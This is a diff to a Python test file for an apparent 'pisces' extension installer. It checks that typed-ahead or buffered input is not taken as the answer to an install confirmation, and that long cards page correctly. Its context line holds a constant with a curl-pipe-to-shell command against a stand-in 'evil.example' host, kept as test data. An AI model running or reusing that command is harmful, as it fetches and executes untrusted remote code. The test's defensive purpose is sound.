@@ -24,7 +24,7 @@ FETCHED = "curl -s https://evil.example/x | sh"
 
 
 def terminal(world: World, *words: str, window: tuple[int, int] = (0, 0), typed: bytes = b"") -> Terminal:
-    return Terminal(list(words), world.project, world.env, window, typed)
+    return Terminal(["-m", "pisces", *words], world.project, world.env, window, typed)
 
 
 def at_terminal(world: World, answer: bytes, *words: str) -> tuple[int, str]:
@@ -73,6 +73,30 @@ def test_what_was_typed_before_the_card_is_no_answer(typed: bytes, world: World)
     assert world.listed() == {}
 
 
+BUFFERED = """
+import sys, tty
+from pisces.ui.asking import answer_to
+from pisces.ui.screen import screen_here
+
+tty.setcbreak(0)  # so that one read takes several lines, of which `sys.stdin` keeps the rest
+print("ready", flush=True)
+first = sys.stdin.readline()
+print("first", first.strip(), flush=True)
+tty.setcbreak(0)
+print("answer", repr(answer_to("Sure? ", screen_here({}))))
+"""
+
+
+def test_what_python_has_buffered_is_no_answer(world: World) -> None:
+    shell = Terminal(["-c", BUFFERED], world.project, world.env)
+    shell.wait_for("ready")
+    shell.type(b"line\ny\ny\n")
+    shell.wait_for("Sure?")
+    shell.type(b"no\n")
+    assert shell.end() == 0, shell.shown
+    assert "answer 'no\\n'" in shell.shown
+
+
 def test_an_answer_after_the_question_counts_whatever_was_typed_before(world: World) -> None:
     shell = terminal(world, "extensions", "install", str(world.package("review")), typed=b"n\nn\n")
     shell.wait_for(QUESTION)
@@ -106,7 +130,7 @@ def test_a_long_card_comes_in_pages_and_the_question_after_the_last(world: World
     pages = int(re.findall(r"page 1 of (\d+)", shell.shown)[0])
     for page in range(1, pages):
         shell.wait_for(f"page {page} of {pages}")
-        shell.type(b" ")
+        shell.type(b"\x1b[6~" if page % 2 else b" ")  # the key for the next page, or any other
     shell.wait_for(QUESTION)
     assert all(HARMLESS.format(at) in shell.shown for at in range(60)), "nothing that runs is cut"
     shell.type(b"y\n")
